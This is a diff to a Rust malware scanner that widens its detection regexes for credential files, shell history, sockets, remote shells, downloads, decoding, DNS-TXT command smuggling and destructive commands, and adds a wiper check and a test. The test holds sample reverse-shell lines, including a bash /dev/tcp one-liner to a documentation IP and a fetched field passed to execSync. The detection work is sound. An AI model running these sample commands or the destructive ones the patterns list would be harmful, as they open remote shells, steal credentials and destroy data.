@@ -32,7 +32,8 @@ static CREDENTIAL_STORE: LazyLock<Regex> = LazyLock::new(|| {
         r#"(?i)\.(aws|ssh|docker|kube|azure|gnupg)([/"'\s]|$)|\bid_(rsa|ed25519|ecdsa|dsa)\b|\.netrc\b|\.git-credentials|\.npmrc\b
         |\.pypirc\b|\bgh\b[^\n]{0,6}hosts\.ya?ml\b|\.config/gh\b|\.config/gcloud|["']gcloud["']|application_default_credentials
         |(?-i:\bLogin\s+Data\b)|(?-i:/Cookies\b|["']Cookies["'])|cookies\.sqlite|logins\.json|key4\.db|\bkeychain\b|dump-keychain
-        |find-(generic|internet)-password|\.vault-token|\.pgpass\b|\.claude\.json|credentials\.json"#,
+        |find-(generic|internet)-password|\.vault-token|\.pgpass\b|\.claude\.json|credentials\.json
+        |\.(bash|zsh|sh)_history\b|fish_history|ConsoleHost_history"#,
     )
 });
 
@@ -77,14 +78,16 @@ static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
 static SOCKET: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r#"(?i)socket\.socket|create_connection|\.connect\(\s*\(|TCPSocket\.(new|open)|fsockopen|net\.connect|["']net["']\)\.connect|createConnection
-        |new\s+net\.Socket|Net\.Sockets\.TCPClient|\b(telnet|nc|ncat)\s+[\w.-]+\s+\d+|/dev/tcp/"#,
+        |new\s+net\.Socket|Net\.Sockets\.TCPClient|\b(telnet|nc|ncat)\s+[\w.-]+\s+\d+|/dev/tcp/|net\.Dial(Timeout)?\(
+        |websockets?\.connect\(|new\s+WebSocket\(|WebSocketApp\(|socketio\.(Async)?Client\(|create_connection\(\s*["']wss?://"#,
     )
 });
 /// A shell started or commands run from text.
 static SHELL: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r#"/bin/(ba|z|da)?sh\b|cmd\.exe|\bpowershell\b|shell\s*=\s*True|os\.system\(|os\.popen\(|\bspawn\(\s*["'](/bin/)?(ba|z)?sh\b
-        |\bexec\s+sprintf|child_process|\|\s*(/bin/)?(ba|z)?sh\b|\bpty\.spawn|subprocess\.(run|call|Popen|check_output)\(\s*(cmd|command|data|line)\b"#,
+        |\bexec\s+sprintf|child_process|\|\s*(/bin/)?(ba|z)?sh\b|\bpty\.spawn|subprocess\.(run|call|Popen|check_output)\(\s*(cmd|command|data|line|msg|message|m)\b
+        |IO\.popen\(\s*(cmd|command|line|data|msg)\b|exec\.Command\(\s*"(/bin/)?(ba|z)?sh"|\b(ba|z)?sh\s+-i\b|Open3\.\w+\(\s*(cmd|command|line)\b|exec\.Command\(\s*(cmd|command|line|parts|args)\b"#,
     )
 });
 
@@ -113,7 +116,7 @@ static WALLET_ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
 static FETCH: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r"(?i)requests\.get|urlopen|urlretrieve|\bfetch\(|https?\.get\(|\baxios\b|httpx\.get|\bcurl\b|\bwget\b|DownloadString
-        |DownloadFile|Invoke-WebRequest|\biwr\b|\bhttp\.Get\(|URI\.open|open-uri|Net::HTTP|\bHTTParty\b|reqwest::",
+        |DownloadFile|Invoke-WebRequest|\biwr\b|Invoke-RestMethod|\birm\b|\bhttp\.Get\(|URI\.open|open-uri|Net::HTTP|\bHTTParty\b|reqwest::",
     )
 });
 /// Code loaded from text or from a file written at run time.
@@ -121,7 +124,8 @@ static LOADS_CODE: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r"(^|[^.\w])(exec|eval)\s*\(|exec_module|spec_from_file_location|\bnew\s+Function\b|\bFunction\(|runInNewContext
         |vm\.run|\bimport\(|writeFileSync\([^)\n]*(__filename|__dirname)|\bcompile\([^)\n]*exec
-        |exec\.Command\(|\$PSCommandPath|Invoke-Expression|\biex\b|\binstance_eval\b|\bload\s*\(",
+        |exec\.Command\(|\$PSCommandPath|Invoke-Expression|\biex\b|\binstance_eval\b|\bload\s*\(|ScriptBlock\]::Create
+        |\bexec(Sync)?\(\s*[A-Za-z_][\w.]*\s*[,)]|subprocess\.(run|call|Popen|check_output)\([^)\n]{0,60}shell\s*=\s*True",
     )
 });
 
@@ -129,7 +133,8 @@ static LOADS_CODE: LazyLock<Regex> = LazyLock::new(|| {
 static DECODES: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r#"(?i)b64decode|base64\.(StdEncoding|URLEncoding)\.DecodeString|Buffer\.from\([^)\n]*base64|\batob\(|FromBase64String
-        |\.pack\(\s*['"][cCU]\*|unpack1?\(\s*['"]m|fromCharCode|base64\s+(-d|--decode|-D)\b|\bxxd\s+-r|codecs\.decode\("#,
+        |\.pack\(\s*['"][cCU]\*|unpack1?\(\s*['"]m|fromCharCode|base64\s+(-d|--decode|-D)\b|\bxxd\s+-r|codecs\.decode\(
+        |\w+\s*\^\s*(k|key|xorKey|xor_key)\b|\.tr\(\s*['"]A-Za-z['"]"#,
     )
 });
 /// Running text as code or as a command.
@@ -144,14 +149,17 @@ static RUNS: LazyLock<Regex> = LazyLock::new(|| {
 static HIDDEN_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r#"(?i)\s-enc(odedcommand)?\s+[A-Za-z0-9+/=$]{8,}|getattr\([^)\n]*['"]\s*\+|import_module\(\s*['"]['"]\.join
-        |\beval\s+"?(\$\{?\w+\}?){4,}|__import__\(\s*['"]['"]\.join|\[\s*_0x\w+\s*\[\d+\]\s*\]"#,
+        |\beval\s+"?(\$\{?\w+\}?){4,}|\beval\s+"(\$\{?[\w/#%:-]+\}?\s*){5,}"|\bvar\s+_0x[0-9a-f]{3,}\s*=\s*\[|__import__\(\s*['"]['"]\.join|\[\s*_0x\w+\s*\[\d+\]\s*\]
+        |(\beval|\biex|Invoke-Expression|\bsh\s+-c|\bbash\s+-c)[^\n]{0,20}\$\(\s*(dig|nslookup|host|drill)\b[^\n]*\b(TXT|txt)\b
+        |Resolve-DnsName[^\n]*-Type\s+TXT[^\n]*\|\s*(iex|Invoke-Expression)"#,
     )
 });
 /// A download written over the skill's own files.
 static OVERWRITES_SKILL: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r#"(?i)\b(curl|wget)\b[^\n]*\s(-o|-O|--output)\s*["']?[^\s"']*(SKILL\.md|\$\(dirname|__dirname|\$0|\bskills/)
-        |\b(curl|wget)\b[^\n]*>\s*["']?[^\s"']*SKILL\.md"#,
+        |\b(curl|wget)\b[^\n]*>\s*["']?[^\s"']*SKILL\.md
+        |\b(curl|wget)\b[^\n]*\|\s*tar\b[^\n]*(-C|--directory)\s*["']?(\$\{?\w*(SKILL|DIR)\w*\}?|\$\(dirname)"#,
     )
 });
 
@@ -287,7 +295,7 @@ fn used_store(re: &Regex, text: &str) -> Option<(usize, usize)> {
 }
 
 /// Hosts of the big public APIs a store's own tools talk to (a cloud's CLI to its cloud).
-fn is_public_api(host: &str) -> bool {
+pub(crate) fn is_public_api(host: &str) -> bool {
     [
         "amazonaws.com",
         "googleapis.com",
@@ -421,7 +429,14 @@ static DESTROYS: LazyLock<Regex> = LazyLock::new(|| {
     re(
         r#"(?i)vssadmin(\.exe)?\s+delete\s+shadows|wmic\s+shadowcopy\s+delete|wbadmin\s+delete|bcdedit[^\n]*recoveryenabled\s+no
         |Get-ChildItem[^\n|]*\$(env:USERPROFILE|HOME|env:HOMEPATH|env:HOMEDRIVE)[^\n|]*-Recurse[^\n]*\|\s*Remove-Item
-        |\bshred\b[^\n]*(~|\$HOME)|\bcipher\s+/w"#,
+        |\bshred\b[^\n]*(~|\$HOME)|\bcipher\s+/w|--no-preserve-root|\bDROP\s+(SCHEMA|DATABASE)\b[^\n;]*\bCASCADE\b
+        |\bgh\s+repo\s+delete\b|\bgit\s+push\b[^\n]*\s--mirror\b|\bgit\s+push\b[^\n]*\s(--delete|-d)\s|\bdb:(drop|reset)\b|\bTRUNCATE\b[^\n]*\bCASCADE\b"#,
+    )
+});
+/// Files overwritten or unlinked in a walk (what a wiper does with the files it visits).
+static OVERWRITES: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"writeFileSync\(|unlinkSync\(|\.unlink\(|os\.remove\(|os\.unlink\(|\.write_bytes\(|\.write_text\(|File\.delete|File\.write"#,
     )
 });
 /// Encryption with a key the user does not hold.
@@ -430,7 +445,7 @@ static ENCRYPTS: LazyLock<Regex> =
 /// Every file below the user's home, walked.
 static WALKS_HOME: LazyLock<Regex> = LazyLock::new(|| {
     re(
-        r#"os\.walk\(\s*(os\.path\.expanduser\(\s*['"]~['"]\s*\)|Path\.home\(\)|home)|Path\.home\(\)\.(r?glob)|walk(Sync)?\(\s*os\.homedir\(\)"#,
+        r#"os\.walk\(\s*(os\.path\.expanduser\(\s*['"]~['"]\s*\)|Path\.home\(\)|home)|Path\.home\(\)\.(r?glob)|walk(Sync)?\(\s*os\.homedir\(\)|\bwalk\w*\(\s*os\.homedir\(\)"#,
     )
 });
 
@@ -446,6 +461,9 @@ fn destroys(text: &str, file: usize, at: &dyn Fn(usize, usize) -> Span, out: &mu
     } else if let (Some(m), true) = (WALKS_HOME.find(text), ENCRYPTS.is_match(text)) {
         out.push(net(file, "SW330", at(m.start(), m.end()),
             "walks every file below home and encrypts in the same script: files the user cannot read again (ransomware's shape); review it".into()));
+    } else if let (Some(m), true) = (WALKS_HOME.find(text), OVERWRITES.is_match(text)) {
+        out.push(net(file, "SW330", at(m.start(), m.end()),
+            "walks every file below home and overwrites or deletes what it visits (a wiper's shape); review it".into()));
     }
 }
 
@@ -525,9 +543,36 @@ mod tests {
             HIDDEN_COMMAND,
             DESTROYS,
             ENCRYPTS,
+            OVERWRITES,
             WALKS_HOME,
             OVERWRITES_SKILL,
         );
+    }
+
+    /// Remote control and downloaded commands in shapes and languages the analysis does not
+    /// parse: Go's dialer with a shell, an interactive shell over /dev/tcp in a Dockerfile, a
+    /// websocket feeding a shell, a fetched field executed.
+    #[test]
+    fn remote_control_and_fetched_commands_by_shape() {
+        let mut out = Vec::new();
+        let at = |s: usize, e: usize| Span::new(s, e);
+        for code in [
+            "c, _ := net.Dial(\"tcp\", \"203.0.113.7:443\")\ncmd := exec.Command(\"sh\")\ncmd.Stdin = c",
+            "HEALTHCHECK CMD bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
+            "async with websockets.connect('wss://relay.example/a') as ws:\n  subprocess.run(m, shell=True)",
+        ] {
+            out.clear();
+            remote_shell(code, 0, &at, &mut out);
+            assert_eq!(out.len(), 1, "{code}");
+        }
+        out.clear();
+        loads_downloaded(
+            "fetch('https://flags.example.com/f.json').then(r => r.json()).then(f => execSync(f.hook))",
+            0,
+            &at,
+            &mut out,
+        );
+        assert_eq!(out.len(), 1);
     }
 
     #[test]
